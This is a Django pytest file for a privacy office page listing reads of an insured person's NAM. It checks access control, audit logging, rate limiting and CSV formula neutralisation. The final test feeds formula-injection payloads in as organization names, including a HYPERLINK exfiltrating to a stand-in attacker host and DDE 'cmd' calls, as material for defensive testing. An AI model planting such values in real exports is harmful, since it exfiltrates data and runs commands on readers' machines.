"""The privacy office's page that lists the reads of a NAM (an insured person's request for
access), attacked through HTTP: no one but an agent holding its permission gets a read, one
account cannot walk through the NAMs, and a vendor's organization name cannot plant a formula in
the CSV given to the person."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import Any

import pytest
from django.test import Client

from sel.audit.events import Action
from sel.audit.models import AuditEvent
from sel.exception_drugs.nam import nam_build
from tests.attacks.test_agent_gate import agent_with
from tests.conftest import login
from tests.factories.accounts import UserFactory
from tests.factories.b2b import API, bearer, person, vendor_client
from tests.factories.privacy import privacy_agent

pytestmark = pytest.mark.django_db

URL = "/vie-privee/regie/demandes-assures/"
EXPORT = URL + "telecharger/"
NAM = "TREJ80010112"
REQUEST = {
    "reference": "AIPRP-2026-0042",
    "received_on": "2026-03-02",
    "nam": NAM,
    "last_name": "Tremblay",
    "first_name": "Jean",
    "birth_date": "1980-01-01",
}
DOWNLOAD = {**REQUEST, "language": "fr-ca", "file_format": "csv"}


def read_by(organization_name: str) -> str:
    """A production client of that vendor read NAM through the API; its client id."""
    client, secret = vendor_client(organization_name=organization_name)
    answer = Client().post(
        f"{API}/eligibility",
        json.dumps({"nam": NAM, "service_date": "2026-03-01"}),
        content_type="application/json",
        **bearer(client, secret),
    )
    assert answer.status_code == 200
    return client.client_id


@pytest.fixture
def read() -> str:
    person()
    return read_by("LOGICIELS SANTÉ INC.")


def no_search_recorded() -> bool:
    return not AuditEvent.objects.filter(
        action__in=[Action.INSURED_PERSON_READS_SEARCHED, Action.INSURED_PERSON_READS_EXPORTED]
    ).exists()


@pytest.mark.parametrize(("url", "data"), [(URL, REQUEST), (EXPORT, DOWNLOAD)])
def test_an_anonymous_visitor_is_sent_to_the_login_and_reads_nothing(
    client: Client, read: str, url: str, data: dict[str, str]
) -> None:
    response = client.post(url, data)
    assert response.status_code == 302
    assert response["Location"].startswith("/compte/connexion/?next=")
    assert no_search_recorded()


@pytest.mark.parametrize(("url", "data"), [(URL, REQUEST), (EXPORT, DOWNLOAD)])
def test_a_professional_is_refused_with_403_and_an_audit_row(
    client: Client, read: str, url: str, data: dict[str, str]
) -> None:
    professional = UserFactory(role="pharmacist")
    login(client, professional)
    response = client.post(url, data)
    assert response.status_code == 403
    assert read not in response.content.decode()
    (refusal,) = AuditEvent.objects.filter(action=Action.AUTHORIZATION_REFUSED, actor=professional)
    assert refusal.details["permission"] == "privacy.answer_insured_person_request"
    assert no_search_recorded()


@pytest.mark.parametrize(("url", "data"), [(URL, REQUEST), (EXPORT, DOWNLOAD)])
def test_an_agent_without_the_permission_is_refused_with_403(
    client: Client, read: str, url: str, data: dict[str, str]
) -> None:
    # An agent of the B2B clients' page, whose audit trail holds the same calls.
    agent = agent_with("b2b.view_b2bclient")
    login(client, agent)
    response = client.post(url, data)
    assert response.status_code == 403
    assert read not in response.content.decode()
    (refusal,) = AuditEvent.objects.filter(action=Action.AUTHORIZATION_REFUSED, actor=agent)
    assert refusal.details["reason"] == "permission"
    assert no_search_recorded()


def test_the_download_is_a_post_the_nam_never_travels_in_a_url(client: Client, read: str) -> None:
    login(client, privacy_agent())
    assert client.get(EXPORT, DOWNLOAD).status_code == 405
    page = client.get(URL, REQUEST)  # a GET shows the empty form: a query string is ignored
    assert page.status_code == 200 and read not in page.content.decode()
    assert no_search_recorded()


def test_walking_through_nams_stops_at_the_hourly_limit(client: Client, settings: Any) -> None:
    settings.INSURED_PERSON_SEARCHES_PER_HOUR = 5
    agent = privacy_agent()
    login(client, agent)
    tried = [
        nam_build(
            last_name="Tremblay",
            first_name="Jean",
            birth_date=date(1980, 1, 1),
            female=False,
            administrative=f"{serial:02d}",
        )
        for serial in range(10, 18)
    ]
    statuses = [client.post(URL, {**REQUEST, "nam": nam}).status_code for nam in tried]
    assert statuses == [200] * 5 + [429] * 3
    last = client.post(URL, {**REQUEST, "nam": tried[-1]})
    assert "Trop de recherches en peu de temps" in last.content.decode()
    assert 'value="Tremblay"' in last.content.decode()
    # The downloads count as well: nothing goes out past the limit.
    assert client.post(EXPORT, {**DOWNLOAD, "nam": tried[0]}).status_code == 429
    searched = AuditEvent.objects.filter(action=Action.INSURED_PERSON_READS_SEARCHED, actor=agent)
    assert sorted(searched.values_list("subject_key", flat=True)) == sorted(tried[:5])
    assert not AuditEvent.objects.filter(action=Action.INSURED_PERSON_READS_EXPORTED).exists()


@pytest.mark.parametrize(
    "organization_name",
    [
        '=HYPERLINK("https://attaquant.example/?d="&A1,"Cliquez")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ],
)
def test_a_formula_in_an_organization_name_is_neutralised_in_the_csv(
    client: Client, organization_name: str
) -> None:
    person()
    client_id = read_by(organization_name)
    login(client, privacy_agent())
    response = client.post(EXPORT, DOWNLOAD)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    (row,) = (row for row in rows[1:] if row[3] == client_id)
    assert row[2] == "'" + organization_name
    for cell in (cell for row in rows[1:] for cell in row):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    # The JSON keeps the name as it is: no spreadsheet runs it.
    document = client.post(EXPORT, {**DOWNLOAD, "file_format": "json"}).json()
    assert document["reads"][0]["reader"] == organization_name
